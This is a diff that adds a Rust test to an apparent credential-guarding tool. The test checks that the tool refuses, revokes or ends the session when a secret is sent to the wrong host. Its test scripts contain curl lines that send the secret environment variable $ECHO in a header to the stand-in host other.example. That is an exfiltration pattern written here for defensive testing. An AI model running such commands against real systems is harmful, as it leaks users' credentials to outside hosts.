@@ -157,3 +157,25 @@ curl -sS -H 'x-api-key: attacker' https://api.anthropic.com/v1/models";
     assert_eq!(outcome.seen.len(), 1, "{:?}", outcome.seen);
     assert!(outcome.stderr.contains("set one of ANTHROPIC_API_KEY"), "{}", outcome.stderr);
 }
+
+/// Without the flag it goes on.
+#[test]
+fn a_leak_ends_what_its_owner_wants_ended() {
+    let script = "curl -sS -o /dev/null -w '%{http_code} ' -H \"X-Data: $ECHO\" https://other.example/
+        curl -sS -o /dev/null -w '%{http_code} ' -H \"Authorization: Bearer $ECHO\" https://echo.example/
+        echo end";
+    for (reaction, shown, said) in [
+        ("refuse", "403 200 end\n", "it was refused; see"),
+        ("revoke", "403 403 end\n", "is worth nothing in this session any more"),
+    ] {
+        let outcome = echo().with(&["--on-leak", reaction]).script(script).succeeded();
+        assert_eq!(outcome.stdout, shown, "{}", outcome.stderr);
+        assert!(outcome.stderr.contains("the stand-in for `ECHO` was sent to other.example"), "{}", outcome.stderr);
+        assert!(outcome.stderr.contains(said), "{}", outcome.stderr);
+    }
+    let waits = "curl -sS -o /dev/null -H \"X-Data: $ECHO\" https://other.example/; exec cat /dev/zero >/dev/null";
+    let outcome = echo().with(&["--on-leak", "stop"]).script(waits);
+    assert_eq!(outcome.code, Some(137), "{}", outcome.stderr);
+    assert!(outcome.stderr.contains("and the session ends"), "{}", outcome.stderr);
+    assert!(outcome.log.contains("credential.wrong_destination"), "{}", outcome.log);
+}
